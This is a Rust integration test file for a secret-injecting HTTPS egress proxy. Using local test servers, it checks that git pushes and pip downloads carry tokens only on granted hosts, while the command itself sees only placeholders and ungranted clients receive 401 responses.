        .expect("CANNOT RUN HERE: git is needed");
    let backend = Path::new(String::from_utf8_lossy(&exec.stdout).trim()).join("git-http-backend");
    assert!(
        backend.exists(),
        "CANNOT RUN HERE: no {}",
        backend.display()
    );
    Arc::new(move |head: &str, body: &[u8]| {
        let mut first = head.split_whitespace();
        let method = first.next().unwrap_or("GET").to_string();
        let target = first.next().unwrap_or("/").to_string();
        let (path, query) = target.split_once('?').unwrap_or((&target, ""));
        let mut c = std::process::Command::new(&backend);
        c.env("GIT_PROJECT_ROOT", &root)
            .env("GIT_HTTP_EXPORT_ALL", "1")
            .env("REQUEST_METHOD", &method)
            .env("PATH_INFO", path)
            .env("QUERY_STRING", query)
            .env("REMOTE_USER", "x-access-token")
            .env("REMOTE_ADDR", "127.0.0.1")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped());
        if method == "POST" {
            c.env("CONTENT_LENGTH", body.len().to_string());
        }
        for (h, var) in [
            ("content-type", "CONTENT_TYPE"),
            ("content-encoding", "HTTP_CONTENT_ENCODING"),
            ("git-protocol", "GIT_PROTOCOL"),
        ] {
            if let Some(v) = header(head, h) {
                c.env(var, v);
            }
        }
        let mut child = c.spawn().unwrap();
        let mut stdin = child.stdin.take().unwrap();
        let body = body.to_vec();
        let w = std::thread::spawn(move || {
            let _ = stdin.write_all(&body);
        });
        let out = child.wait_with_output().unwrap();
        let _ = w.join();
        let o = out.stdout;
        let (hl, skip) = match o.windows(4).position(|w| w == b"\r\n\r\n") {
            Some(i) => (i, 4),
            None => (
                o.windows(2).position(|w| w == b"\n\n").unwrap_or(o.len()),
                2,
            ),
        };
        let mut status = "200 OK".to_string();
        let mut hs = Vec::new();
        for l in String::from_utf8_lossy(&o[..hl]).lines() {
            if let Some((n, v)) = l.split_once(':') {
                if n.eq_ignore_ascii_case("status") {
                    status = v.trim().to_string();
                } else {
                    hs.push((n.trim().to_string(), v.trim().to_string()));
                }
            }
        }
        (status, hs, o.get(hl + skip..).unwrap_or(&[]).to_vec())
    })
}

fn git_host(dir: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new("git")
        .args(["-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(dir)
        .output()
        .expect("CANNOT RUN HERE: git is needed")
}

#[test]
fn git_push_over_https_to_a_bound_host_carries_the_token_and_without_the_grant_gets_401() {
    let root = tempfile::tempdir().unwrap();
    let (ca, cfg) = tls_server(root.path());
    let repos = root.path().join("repos");
    std::fs::create_dir_all(&repos).unwrap();
    assert!(git_host(&repos, &["init", "-q", "--bare", "repo.git"])
        .status
        .success());
    let bare = repos.join("repo.git");
    // What a GitHub-like host takes: basic auth, user x-access-token, the token as password.
    let basic = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        format!("x-access-token:{CANARY}"),
    );
    let srv = Private::start(cfg, format!("Basic {basic}"), git_backend(repos.clone()));
    let p = srv.port;
    let extra = format!(
        "[secrets.GIT_TOKEN]\nenv = \"BL_TEST_GIT_TOKEN\"\nhosts = [\"127.0.0.1:{p}\"]\nbasic_user = \"x-access-token\"\nca_file = {ca:?}\n"
    );
    let s = setup(&extra, &[("BL_TEST_GIT_TOKEN", CANARY)]);
    let env = &s.env;
    cli_ok(
        env,
        &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")],
    );
    cli_ok(env, &["grant", "local", "SECRET", "GIT_TOKEN"]);
    // A small push (Content-Length bodies), then one past git's 1 MiB post buffer (a probe,
    // then a chunked body), each request its own TLS connection through the proxy.
    let cmd = format!(
        "export GIT_TERMINAL_PROMPT=0 GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; set -e; \
         git init -q w; cd w; git commit -q --allow-empty -m small-push; git push -q https://127.0.0.1:{p}/repo.git HEAD:main 2>&1; \
         head -c 2000000 /dev/urandom > big; git add big; git commit -q -m big-push; \
         git push -q https://127.0.0.1:{p}/repo.git HEAD:main 2>&1; echo pushed; \
         cd ..; git clone -q https://127.0.0.1:{p}/repo.git c 2>&1; echo \"cloned:$(git -C c log --format=%s | tr '\\n' ,)\"; printenv GIT_TOKEN"
    );
    let (_, st, v, e, asked) = submit_asked(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    let (_, shown) = asked.expect("a network command is asked about up front");
    assert!(
        shown.contains(&format!("GIT_TOKEN → 127.0.0.1:{p}")),
        "{shown}"
    );
    let out = v["stdout"].as_str().unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[lines.len() - 3], "pushed", "{v}");
    // Fetching (upload-pack) through the proxy too.
    assert_eq!(lines[lines.len() - 2], "cloned:big-push,small-push,", "{v}");
    assert!(lines[lines.len() - 1].starts_with("BLSECRET_"), "{v}");
    let log = git_host(&bare, &["log", "--format=%s", "main"]);
    assert_eq!(
        String::from_utf8_lossy(&log.stdout),
        "big-push\nsmall-push\n",
        "the bare repository received both commits"
    );
    let seen = srv.seen();
    assert!(seen.len() >= 4, "{seen:?}");
    // One request per connection: the proxy sends each on with `Connection: close`.
    assert_eq!(
        srv.conns.load(std::sync::atomic::Ordering::SeqCst),
        seen.len(),
        "{seen:?}"
    );
    for (head, status) in &seen {
        assert!(status.starts_with("200"), "{status}: {head}");
        assert!(!head.contains("BLSECRET_"), "{head}");
    }
    assert!(
        seen.iter()
            .any(|(h, _)| h.starts_with("POST /repo.git/git-receive-pack")
                && header(h, "transfer-encoding").as_deref() == Some("chunked")),
        "the big push went chunked: {seen:?}"
    );
    let rec = egress(&v);
    assert!(
        rec.iter()
            .all(|c| c.1 == "allowed" && c.2.as_deref() == Some("carried secret GIT_TOKEN")),
        "{rec:?}"
    );
    assert!(
        v["egress"]
            .as_array()
            .unwrap()
            .iter()
            .all(|c| c["protocol"] == "https"),
        "{v}"
    );
    // A client without the grant: no placeholder, no run CA, the CONNECT tunnelled untouched;
    // the server answers 401 and nothing arrives.
    cli_ok(env, &["grant", "bob", "SYSTEM_COMMAND", "*"]);
    cli_ok(env, &["grant", "bob", "NETWORK", &format!("127.0.0.1:{p}")]);
    let before = srv.seen().len();
    let cmd = format!(
        "export GIT_TERMINAL_PROMPT=0; git init -q b && cd b && git -c user.email=b@b -c user.name=b commit -q --allow-empty -m from-bob && \
         git -c http.sslVerify=false push https://127.0.0.1:{p}/repo.git HEAD:refs/heads/bob 2>&1; echo \"exit=$?\""
    );
    let (_, st, v, e) = submit(env, "bob", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    let out = v["stdout"].as_str().unwrap();
    assert!(out.contains("exit=128"), "{out}");
    let after: Vec<(String, String)> = srv.seen().into_iter().skip(before).collect();
    assert!(!after.is_empty(), "bob's push reached the server");
    for (head, status) in &after {
        assert!(status.starts_with("401"), "{status}: {head}");
        assert!(header(head, "authorization").is_none(), "{head}");
    }
    assert_eq!(v["egress"][0]["protocol"], "connect", "{v}");
    assert!(
        !git_host(&bare, &["rev-parse", "-q", "--verify", "refs/heads/bob"])
            .status
            .success(),
        "nothing arrived from bob"
    );
    assert_no_canary(env);
}

/// A minimal wheel of package `blpkg` 0.1 (made with Python's zipfile); its file name and
/// sha256.
fn make_wheel(dir: &Path) -> (String, String) {
    let script = r#"
import base64, hashlib, sys, zipfile
files = {
    'blpkg/__init__.py': "MARK = 'mark-from-the-private-index'\n",
    'blpkg-0.1.dist-info/METADATA': 'Metadata-Version: 2.1\nName: blpkg\nVersion: 0.1\n',
    'blpkg-0.1.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: egress_secrets\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
}
def h(b):
    return base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b'=').decode()
rec = ''.join('%s,sha256=%s,%d\n' % (p, h(c.encode()), len(c.encode())) for p, c in files.items())
rec += 'blpkg-0.1.dist-info/RECORD,,\n'
path = sys.argv[1] + '/blpkg-0.1-py3-none-any.whl'
with zipfile.ZipFile(path, 'w') as z:
    for p, c in files.items():
        z.writestr(p, c)
    z.writestr('blpkg-0.1.dist-info/RECORD', rec)
print(hashlib.sha256(open(path, 'rb').read()).hexdigest())
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", script, dir.to_str().unwrap()])
        .output()
        .expect("CANNOT RUN HERE: python3 is needed");
    assert!(out.status.success(), "{out:?}");
    (
        "blpkg-0.1-py3-none-any.whl".to_string(),
        String::from_utf8_lossy(&out.stdout).trim().to_string(),
    )
}

#[test]
fn pip_downloads_from_a_private_index_on_a_bound_host_the_command_seeing_only_the_placeholder() {
    let root = tempfile::tempdir().unwrap();
    let (ca, cfg) = tls_server(root.path());
    let (wheel, sha) = make_wheel(root.path());
    let wheel_bytes = std::fs::read(root.path().join(&wheel)).unwrap();
    // A PEP 503 "simple" index; the token goes as the password of basic auth (as private
    // indexes take it), the command writing it in the index URL: the placeholder replaced
    // inside `Authorization: Basic` by the proxy.
    let basic = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        format!("__token__:{CANARY2}"),
    );
    let page = format!(
        "<!DOCTYPE html><html><body><a href=\"/files/{wheel}#sha256={sha}\">{wheel}</a></body></html>\n"
    );
    let w = wheel.clone();
    let route: Route = Arc::new(move |head: &str, _: &[u8]| {
        let path = head.split_whitespace().nth(1).unwrap_or("/");
        let html = |b: &str| {
            (
                "200 OK".to_string(),
                vec![("Content-Type".to_string(), "text/html".to_string())],
                b.as_bytes().to_vec(),
            )
        };
        match path {
            "/simple/blpkg/" => html(&page),
            "/simple/" => html("<a href=\"/simple/blpkg/\">blpkg</a>\n"),
            p if p == format!("/files/{w}") => (
                "200 OK".to_string(),
                vec![(
                    "Content-Type".to_string(),
                    "application/octet-stream".to_string(),
                )],
                wheel_bytes.clone(),
            ),
            _ => ("404 Not Found".to_string(), vec![], b"not here\n".to_vec()),
        }
    });
    let srv = Private::start(cfg, format!("Basic {basic}"), route);
    let p = srv.port;
    let extra = format!(
        "[secrets.PIP_TOKEN]\nenv = \"BL_TEST_PIP_TOKEN\"\nhosts = [\"127.0.0.1:{p}\"]\nca_file = {ca:?}\n"
    );
    let s = setup(&extra, &[("BL_TEST_PIP_TOKEN", CANARY2)]);
    let env = &s.env;
    cli_ok(
        env,
        &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")],
    );
    cli_ok(env, &["grant", "local", "SECRET", "PIP_TOKEN"]);
    let cmd = format!(
        "python3 -m pip download --disable-pip-version-check --no-cache-dir --no-deps -d dl \
         --index-url \"https://__token__:$PIP_TOKEN@127.0.0.1:{p}/simple/\" blpkg >pip.log 2>&1 || cat pip.log; \
         ls dl; python3 -c \"import sys; sys.path.insert(0, 'dl/{wheel}'); import blpkg; print(blpkg.MARK)\"; printenv PIP_TOKEN"
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    let out = v["stdout"].as_str().unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert_eq!(lines[0], wheel, "{out}");
    assert_eq!(lines[1], "mark-from-the-private-index", "{out}");
    assert!(lines[2].starts_with("BLSECRET_"), "{out}");
    let seen = srv.seen();
    let paths: Vec<&str> = seen
        .iter()
        .map(|(h, _)| h.split_whitespace().nth(1).unwrap_or(""))
        .collect();
    assert!(paths.contains(&"/simple/blpkg/"), "{paths:?}");
    assert!(
        paths.contains(&format!("/files/{wheel}").as_str()),
        "{paths:?}"
    );
    for (head, status) in &seen {
        assert!(status.starts_with("200"), "{status}: {head}");
        assert!(!head.contains("BLSECRET_"), "{head}");
    }
    let rec = egress(&v);
    assert!(
        rec.iter()
            .all(|c| c.1 == "allowed" && c.2.as_deref() == Some("carried secret PIP_TOKEN")),
        "{rec:?}"
    );
    assert_no_canary(env);
}

#[test]
fn a_bound_host_that_keeps_the_connection_open_after_its_response_still_answers_the_command() {
    // The proxy asks for `Connection: close`; a server that ignores it keeps the connection
    // open. The response (to a request that carried the value) must still reach the command
    // whole, not wait for the upstream to close (it did: the mask held its last bytes back),
    // and the command's next request must not go raw on that connection (it did: 401).
    let root = tempfile::tempdir().unwrap();
    let (ca, cfg) = tls_server(root.path());
    let route: Route =
        Arc::new(|_: &str, _: &[u8]| ("200 OK".to_string(), vec![], b"kept-open\n".to_vec()));
    let srv = Private::start_with(cfg, format!("Bearer {CANARY}"), route, false);
    let p = srv.port;
    let extra = format!(
        "[secrets.TLS_TOKEN]\nenv = \"BL_TEST_TLS_TOKEN\"\nhosts = [\"127.0.0.1:{p}\"]\nheader = \"Authorization: Bearer {{value}}\"\nca_file = {ca:?}\n"
    );
    let s = setup(&extra, &[("BL_TEST_TLS_TOKEN", CANARY)]);
    let env = &s.env;
    cli_ok(
        env,
        &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")],
    );
    cli_ok(env, &["grant", "local", "SECRET", "TLS_TOKEN"]);
    let cmd = format!("curl -sS -m 20 https://127.0.0.1:{p}/one https://127.0.0.1:{p}/two");
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    assert_eq!(v["stdout"], "kept-open\nkept-open\n", "{v}");
    let seen = srv.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    // Told `Connection: close` by the proxy, curl sent the second request on a new connection
    // (decided anew, the value put in again), not raw on the first.
    assert_eq!(srv.conns.load(std::sync::atomic::Ordering::SeqCst), 2);
    for (head, status) in &seen {
        assert!(status.starts_with("200"), "{status}: {head}");
    }
    assert_no_canary(env);
}
